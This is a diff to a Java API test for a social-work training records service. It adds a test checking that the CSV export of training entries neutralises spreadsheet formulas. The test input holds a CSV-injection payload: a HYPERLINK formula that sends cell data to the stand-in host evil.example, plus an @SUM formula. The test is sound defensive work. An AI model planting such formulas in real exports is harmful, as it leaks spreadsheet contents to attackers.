@@ -99,6 +99,26 @@ class LearningApiTest {
     }
 
     @Test
+    void aCpdEntryWrittenLikeASpreadsheetFormulaIsExportedAsTextNotAsAFormula() throws Exception {
+        teams.team("a6", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
+        String formula = "=HYPERLINK(\\\"https://evil.example/?leak=\\\"&A1,\\\"Open the notes\\\")";
+        HttpResponse<String> added = as("lswa6").post("/api/staff/lswa6/cpd", "application/json",
+                "{\"activity\": \"" + formula + "\", \"date\": \"2027-02-03\", \"hours\": \"1.5\","
+                        + " \"reflection\": \"@SUM(A1:A9)\"}");
+        assertThat(added.statusCode()).as(added.body()).isEqualTo(201);
+
+        HttpResponse<String> export = as("lswa6").get("/api/staff/lswa6/cpd.csv");
+
+        List<CSVRecord> rows = CSVFormat.DEFAULT.parse(new java.io.StringReader(export.body())).getRecords();
+        assertThat(rows.get(1).get(1)).as("the activity, shown as text with a leading quote")
+                .isEqualTo("'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open the notes\")");
+        assertThat(rows.get(1).get(4)).as("the reflection").isEqualTo("'@SUM(A1:A9)");
+        assertThat(rows.get(1).get(3)).as("hours stay a number").isEqualTo("1.5");
+        assertThat(export.body()).as("every cell is quoted, so no separator can start a new cell").doesNotContain(",=", ";=")
+                .startsWith("\"date\",\"activity\",");
+    }
+
+    @Test
     void aSuperviseeRequestsTrainingThroughTheApiOrTasklistsStartForm() {
         teams.team("a2", "SOCIAL_WORKER", LocalDate.of(2023, 9, 4));
         HttpResponse<String> api = as("lswa2").post("/api/training-requests", "application/json", """
